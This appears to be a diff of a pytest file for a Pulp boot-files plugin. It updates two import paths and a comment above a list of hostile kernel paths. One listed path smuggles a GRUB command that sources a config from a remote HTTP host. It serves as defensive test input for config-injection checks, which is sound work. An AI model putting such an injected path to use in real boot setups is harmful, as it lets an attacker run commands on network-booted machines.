@@ -3,9 +3,8 @@
 import re
 
 import pytest
-
-from pulp_bootfiles.app import bootconfigs
-from pulp_bootfiles.app.bootconfigs import TreeBoot
+from pulp_glue.bootfiles.netboot import bootconfigs
+from pulp_glue.bootfiles.netboot.bootconfigs import TreeBoot
 
 URL = "http://pulp.example.com:8080/pulp/content/fedora/40/x86_64"
 X86_FILES = {
@@ -257,7 +256,7 @@ def test_grub_cfg_beside_each_grub_binary(files, name, served):
     assert (text == bootconfigs.render("grub.cfg", boot)) if served else (text is None)
 
 
-# Paths the sync refuses (formats.paths), made to inject config syntax: the configs do not rely
+# Paths the sync refuses (netboot.paths), made to inject config syntax: the configs do not rely
 # on that refusal.
 HOSTILE_KERNELS = [
     "images/x;source (http,10.0.0.1:80)/pwn.cfg;y/vmlinuz",  # GRUB: `;` then a command
